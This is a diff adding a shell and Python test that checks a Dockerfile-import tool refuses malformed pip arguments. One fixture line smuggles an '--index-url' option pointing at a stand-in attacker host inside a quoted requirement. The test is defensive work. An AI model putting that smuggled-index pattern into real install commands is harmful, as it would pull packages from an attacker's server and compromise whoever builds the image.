@@ -347,6 +347,25 @@ check "init --from-dockerfile DIR: paths point back at the build context" bash -
   "'$PI' init --from-dockerfile '$S/Dockerfile' '$WORK/elsewhere' 2>/dev/null && grep -q 'from: \"../seed/src/\"' '$WORK/elsewhere/spec.yaml' &&
    cd '$WORK/elsewhere' && '$PI' render dockerfile spec.yaml >/dev/null"
 
+# Each pip install argument is one requirement (PEP 508, the parser lock reads it with):
+# an option smuggled inside a quoted argument, or a malformed one, is not mapped.
+P=$WORK/pipargs
+mkdir -p "$P"
+printf '%s\n' 'FROM python:3.11' 'RUN pip install "numpy --index-url http://evil.example/simple"' \
+  'RUN pip install "opencv>=>4"' 'RUN pip install "shapely>=2"' >"$P/Dockerfile"
+(cd "$P" && "$PI" init --from-dockerfile Dockerfile --json) >"$WORK/pa.json" 2>"$WORK/pa.err"
+check "init --from-dockerfile: a pip argument with options inside, and one that is no PEP 508 requirement, are not mapped" \
+  python3 - "$WORK/pa.json" "$P/requirements-deps.txt" <<'PY'
+import json, sys
+j = json.load(open(sys.argv[1]))
+u = {e["line"]: e["reason"] for e in j["unmapped"]}
+assert set(u) == {2, 3}, u
+assert "pip reads the part from `-` on as options" in u[2], u[2]
+assert "is not a requirement (PEP 508)" in u[3] and ">4" in u[3], u[3]
+text = open(sys.argv[2]).read()
+assert "evil" not in text and "opencv" not in text and text.endswith("\nshapely>=2\n"), text
+PY
+
 # --- every rendered pipeline validated (tests/support/ci_validate.py) -----------------
 # GitHub workflows against the schema @action-validator/cli checks them with (pinned in
 # tests/support/ci-schemas, so this runs offline), plus expressions, needs and uses;
